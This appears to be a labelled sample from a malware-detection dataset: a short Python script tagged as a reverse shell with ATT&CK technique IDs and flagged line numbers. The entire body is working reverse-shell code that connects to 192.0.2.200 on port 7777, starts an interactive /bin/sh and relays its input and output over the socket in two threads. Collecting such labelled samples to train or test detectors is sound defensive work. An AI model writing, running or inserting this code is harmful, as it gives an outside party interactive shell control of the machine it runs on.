# label: malicious family=revshell techniques=T1059.004,T1095,T1571 lines=7,10,12-13
import socket, subprocess, threading
def pipe_in(s, p):
    while True:
        d = s.recv(1024)
        if len(d) > 0:
            p.stdin.write(d); p.stdin.flush()
def pipe_out(s, p):
    while True:
        s.send(p.stdout.read(1))
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("192.0.2.200", 7777))
p = subprocess.Popen(["/bin/sh", "-i"], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, stdin=subprocess.PIPE)
threading.Thread(target=pipe_in, args=[s, p], daemon=True).start()
threading.Thread(target=pipe_out, args=[s, p], daemon=True).start()
p.wait()
